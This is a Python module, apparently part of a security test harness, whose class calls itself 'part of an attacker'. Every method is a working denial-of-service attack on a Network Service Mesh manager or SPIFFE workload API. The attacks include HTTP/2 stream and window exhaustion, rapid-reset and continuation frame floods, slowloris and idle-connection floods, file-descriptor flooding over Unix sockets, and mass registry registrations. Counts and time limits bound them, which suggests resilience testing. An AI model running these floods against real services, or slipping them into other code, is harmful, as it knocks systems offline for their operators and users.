"""Too much of everything, each bounded in count and time. What is held is let go with `release`."""

from __future__ import annotations

import array
import contextlib
import os
import socket
import struct
import time
from collections.abc import Callable, Iterator
from typing import Any

from nsmproto import networkservice_pb2_grpc, registry_pb2

from .. import wire
from ..relay import parse_address
from ..rpc import Channel
from ..wire import ENDED, Wire, block, call_fields, frame
from . import messages
from .messages import Order

_PIECE = 16384
_REQUEST = "/networkservice.NetworkService/Request"
_WATCH = "/registry.NetworkServiceEndpointRegistry/Find"
_WORKLOAD = "/SpiffeWorkloadAPI/FetchX509SVID"
_PATH = ("path", '{"Index":0,"PathSegments":null}')


class Floods:
    """Part of an attacker; hand.py has the rest of it."""

    identities: Any
    _open: list[Callable[[], object]]
    _name: str
    _manager: str
    _workload_api: str

    def _url(self, order: Order) -> str:
        return self._workload_api if order.get("to") == "workload" else self._manager

    def _wire(self, order: Order, greet: bool = True) -> Wire:
        identity = None if order.get("to") == "workload" else self.identities.newest(10)
        made = Wire(self._url(order), identity, greet)
        self._open.append(made.close)
        return made

    @staticmethod
    def _head(order: Order, connection: Wire, method: str = _REQUEST) -> bytes:
        if order.get("to") == "workload":
            return block(call_fields(_WORKLOAD, [("workload.spiffe.io", "true")]))
        return block(call_fields(method, connection.metadata(_PATH)))

    # MARK: streams

    def unfinished(self, order: Order) -> Order:
        """Messages of which the last byte never comes."""
        size, end = order.get("size", 4 << 20) - 1, time.monotonic() + order.get("seconds", 10)
        connection = self._wire(order)
        head = self._head(order, connection)
        left = {}
        sent = 0
        try:
            connection.drain(0.3)
            for number in range(order.get("count", 150)):
                stream = 2 * number + 1
                first = struct.pack("!BI", 0, size + 1 - 5)
                connection.send(frame(wire.HEADERS, head, wire.END_HEADERS, stream), frame(wire.DATA, first, 0, stream))
                left[stream] = size - len(first)
                connection.window -= len(first)
            while any(left.values()) and time.monotonic() < end:
                connection.drain(0)
                sent += (more := self._fill(connection, left))
                if not more:
                    connection.ready(0.05)
        except ENDED as error:
            return {"answer": f"closed {connection.ended or error}", "sent": sent}
        return {"answer": "open", "sent": sent}

    @staticmethod
    def _fill(connection: Wire, left: dict[int, int]) -> int:
        """As much as the other side takes now."""
        sent = 0
        for stream, rest in left.items():
            window = connection.windows.setdefault(stream, connection.stream_window - 5)
            size = min(rest, _PIECE, window, connection.window)
            if size > 0:
                connection.send(frame(wire.DATA, bytes(size), 0, stream))
                connection.windows[stream] -= size
                connection.window -= size
                left[stream] -= size
                sent += size
        return sent

    def streams(self, order: Order) -> Order:
        """Calls that never get a message."""
        connection = self._wire(order)
        head = self._head(order, connection)
        opened = 0
        try:
            connection.drain(0.3)
            for number in range(order.get("count", 16384)):
                connection.send(frame(wire.HEADERS, head, wire.END_HEADERS, 2 * number + 1))
                opened += 1
                if not number % 64:
                    connection.drain(0)
            connection.drain(1)
        except ENDED as error:
            return {"answer": f"closed {connection.ended or error}", "opened": opened}
        return {"answer": "open", "opened": opened}

    # MARK: connections

    def broken(self, order: Order) -> Order:
        """Connections that each end with an error of HTTP/2."""
        errors = [frame(wire.DATA, b"x"), frame(wire.SETTINGS, b"x"), frame(wire.HEADERS, b"\xff" * 9, 4, 1), frame(wire.PING, b"x")]
        closed, end = 0, time.monotonic() + order.get("seconds", 60)
        for number in range(order.get("count", 2000)):
            if time.monotonic() > end:
                break
            with contextlib.suppress(*ENDED):
                connection = self._wire(order)
                try:
                    connection.send(errors[number % len(errors)])
                    closed += connection.how_it_ends(3).startswith("closed")
                finally:
                    self._open.remove(connection.close)
                    connection.close()
        return {"answer": "accepted", "closed": closed}

    def idle(self, order: Order) -> Order:
        """Connections on which nothing is said."""
        family, address = parse_address(self._url(order))
        refused = 0
        held = []
        end = time.monotonic() + order.get("seconds", 20)
        for _ in range(order.get("count", 4100)):
            one = socket.socket(family, socket.SOCK_STREAM)
            one.settimeout(0.5)
            try:
                if time.monotonic() > end:
                    raise TimeoutError("enough")
                one.connect(address)
                held.append(one)
            except OSError:
                refused += 1
                one.close()
                if refused > 100:
                    break
        self._open += [one.close for one in held]
        time.sleep(0.5)
        return {"answer": "accepted", "connected": len(held), "refused": refused}

    def loris(self, order: Order) -> Order:
        """Connections that say a byte now and then."""
        family, address = parse_address(self._url(order))
        held = []
        for _ in range(order.get("count", 200)):
            with contextlib.suppress(OSError):
                one = socket.socket(family, socket.SOCK_STREAM)
                one.settimeout(0.5)
                one.connect(address)
                held.append(one)
        self._open += [one.close for one in held]
        end, place = time.monotonic() + order.get("seconds", 5), 0
        said = wire.PREFACE if order.get("to") == "workload" else b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        while time.monotonic() < end:
            for one in held:
                with contextlib.suppress(OSError):
                    one.send(said[place % len(said) : place % len(said) + 1])
            place += 1
            time.sleep(0.5)
        return {"answer": "accepted", "connected": len(held)}

    def descriptors(self, order: Order) -> Order:
        """Descriptors that no message names, with the first bytes of connections."""
        family, address = parse_address(self._url(order))
        sent = connected = 0
        for _ in range(order.get("count", 90)):
            one = socket.socket(family, socket.SOCK_STREAM)
            one.settimeout(1)
            self._open.append(one.close)
            with contextlib.suppress(OSError):
                one.connect(address)
                connected += 1
                for piece in _pieces(order.get("each", 256), 64):
                    files = array.array("i", [os.memfd_create("evil") for _ in range(piece)])
                    try:
                        one.sendmsg([wire.PREFACE[:1]], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
                        sent += piece
                    finally:
                        for file in files:
                            os.close(file)
        time.sleep(1)
        return {"answer": "accepted", "sent": sent, "connected": connected}

    # MARK: frames

    def frames(self, order: Order) -> Order:
        """So many of one kind, or for so long."""
        connection = self._wire(order)
        sent, end = 0, time.monotonic() + order.get("seconds", 5)
        try:
            connection.drain(0.2)
            for burst in _bursts(order["kind"], self._head(order, connection)):
                connection.send(burst)
                sent += order.get("burst", 100)
                connection.drain(0)
                if sent >= order.get("count", 100_000) or time.monotonic() > end:
                    break
            connection.drain(0.5)
        except ENDED as error:
            return {"answer": f"closed {connection.ended or error}", "sent": sent}
        return {"answer": "open", "sent": sent}

    def deaf(self, order: Order) -> Order:
        """Watches whose answers are never read."""
        opened = 0
        for _ in range(order.get("connections", 4)):
            connection = self._wire(order)
            # So much is let in that no window ends it.
            connection.send(frame(wire.SETTINGS, struct.pack("!HI", 4, 0x7FFFFFFF)))
            connection.send(frame(wire.WINDOW_UPDATE, struct.pack("!I", 0x7FFF0000 - 65535)))
            head = self._head(order, connection, _WATCH)
            query = registry_pb2.NetworkServiceEndpointQuery(watch=True).SerializeToString()
            with contextlib.suppress(*ENDED):
                for number in range(order.get("count", 100)):
                    stream = 2 * number + 1
                    data = frame(wire.DATA, wire.grpc_message(query), wire.END_STREAM, stream)
                    connection.send(frame(wire.HEADERS, head, wire.END_HEADERS, stream), data)
                    opened += 1
        return {"answer": "accepted", "opened": opened}

    # MARK: registry and requests

    def names(self, order: Order) -> Order:
        """Registers so many names; with `away` each is taken back at once."""
        connection = self._wire(order)
        kind = "NetworkServiceRegistry" if order.get("kind") == "service" else "NetworkServiceEndpointRegistry"
        register, unregister = (
            block(call_fields(f"/registry.{kind}/{method}", connection.metadata(_PATH)))
            for method in ("Register", "Unregister")
        )
        done = accepted = 0
        end = time.monotonic() + order.get("seconds", 60)
        try:
            for number in range(order.get("count", 20_000)):
                if time.monotonic() > end:
                    break
                message = self._named(order, f"{order.get('prefix', self._name)}-{number}")
                accepted += connection.call(register, message)
                done += 1
                if order.get("away"):
                    connection.call(unregister, message)
        except ENDED as error:
            return {"answer": f"closed {connection.ended or error}", "done": done, "accepted": accepted}
        return {"answer": "accepted", "done": done, "accepted": accepted}

    @staticmethod
    def _named(order: Order, name: str) -> bytes:
        if order.get("kind") == "service":
            return registry_pb2.NetworkService(name=name, payload="IP").SerializeToString()
        services = [f"evil-{name}"] if order.get("services") else ["evil"]
        endpoint = registry_pb2.NetworkServiceEndpoint(name=name, network_service_names=services, url="tcp://127.0.0.1:9")
        return endpoint.SerializeToString()

    def hang(self, order: Order) -> Order:
        """Requests of which nobody waits for the answers."""
        channel: Channel = self._channel(order)  # type: ignore[attr-defined]
        url = channel.link.descriptors.send("/proc/self/ns/net")
        stub = networkservice_pb2_grpc.NetworkServiceStub(channel.grpc)
        for number in range(order.get("count", 300)):
            made = messages.request({**order, "id": f"{self._name}-{number}", "name": self._name}, channel, url)
            future = stub.Request.future(made, timeout=order.get("timeout", 60), metadata=channel.metadata())
            self._open.append(future.cancel)
        time.sleep(order.get("seconds", 3))
        return {"answer": "accepted"}


def _pieces(count: int, most: int) -> Iterator[int]:
    while count > 0:
        yield min(count, most)
        count -= most


def _bursts(kind: str, head: bytes) -> Iterator[bytes]:
    """A hundred frames of a kind, and the next hundred."""
    stream = 1
    opening = frame(wire.HEADERS, head, wire.END_HEADERS, 1)
    if kind in ("empty-data", "window", "stream-window"):
        yield opening
    if kind == "continuation":
        yield frame(wire.HEADERS, head, 0, 1)
    while True:
        if kind == "ping":
            yield frame(wire.PING, bytes(8)) * 100
        elif kind == "settings":
            yield frame(wire.SETTINGS, struct.pack("!HI", 4, 65535)) * 100
        elif kind == "empty-data":
            yield frame(wire.DATA, b"", 0, 1) * 100
        elif kind == "window":
            yield frame(wire.WINDOW_UPDATE, struct.pack("!I", 1)) * 100
        elif kind == "stream-window":
            yield frame(wire.WINDOW_UPDATE, struct.pack("!I", 1), 0, 1) * 100
        elif kind == "priority":
            yield b"".join(frame(wire.PRIORITY, struct.pack("!IB", 0, 7), 0, stream + 2 * i) for i in range(100))
            stream += 200
        elif kind == "continuation":
            yield frame(wire.CONTINUATION, block([("x", "y" * 50)]), 0, 1) * 100
        elif kind == "unknown":
            yield frame(0xBE, b"x" * 100) * 100
        else:  # reset
            yield b"".join(
                frame(wire.HEADERS, head, wire.END_HEADERS, stream + 2 * i)
                + frame(wire.RST_STREAM, struct.pack("!I", 8), 0, stream + 2 * i)
                for i in range(100)
            )
            stream += 200
